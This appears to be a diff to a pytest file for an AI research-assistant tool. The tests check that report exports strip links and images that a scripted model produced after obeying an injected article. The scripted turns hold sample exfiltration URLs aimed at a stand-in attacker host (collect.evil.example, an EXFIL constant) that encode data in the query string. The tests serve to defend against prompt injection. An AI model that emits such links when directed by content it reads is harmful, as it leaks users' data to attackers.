@@ -7,7 +7,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from research_script import AS_OF, RISKS, TOPIC, header, insights, plan_json
+from research_script import AS_OF, RISKS, TOPIC, Reasons, header, insights, plan_json
 
 from copilot.llm.scripted import ScriptedLLM
 from copilot.research import ResearchSession, export, to_html, to_markdown
@@ -30,15 +30,16 @@ def test_markdown_and_html_exports_drop_off_policy_links_and_images(
             header("Small caps rallied [1]. See https://collect.evil.example/p?d=IWM-up"),
             OBEYED,
             f"IWM led SPY [1] [2]. [Chart]({EXFIL})",
-            "News cites lower rates [3].",
             insights(f"Small caps led [1] ![x]({EXFIL})."),
             RISKS,
-            "Stale within weeks.",
             # one revision round, obeyed again; the links go before the figure check, so the
             # URLs' digits no longer ask for revisions of the analysis and insights
             OBEYED,
-        ]
-    )
+        ],
+        # A reasons turn that obeyed the article too: kept or withheld, its links go.
+        routes=[Reasons(bad=f"Small caps rallied on rate hopes [{{n}}]. [Chart]({EXFIL})",
+                        bad_first=1).route()],
+    )  # fmt: skip
     session = ResearchSession(research_deps, llm)
     report = session.run(session.propose_plan(TOPIC, AS_OF))
     llm.assert_consumed()
@@ -63,9 +64,8 @@ def test_pdf_export_has_no_off_policy_link(research_deps: ToolDeps, tmp_path: Pa
     if chromium_path() is None:
         pytest.skip("PDF export needs Chromium (/usr/bin/chromium); not installed here")
     turns = [plan_json(), header("Small caps rallied [1]."), OBEYED, "IWM led SPY [1] [2].",
-             "News cites lower rates [3].", insights("Small caps led [1]."), RISKS,
-             "Stale within weeks.", OBEYED]  # fmt: skip
-    llm = ScriptedLLM(turns)
+             insights("Small caps led [1]."), RISKS, OBEYED]  # fmt: skip
+    llm = ScriptedLLM(turns, routes=[Reasons().route()])
     session = ResearchSession(research_deps, llm)
     report = session.run(session.propose_plan(TOPIC, AS_OF))
     pdf = export(report, tmp_path / "r.pdf").read_bytes()
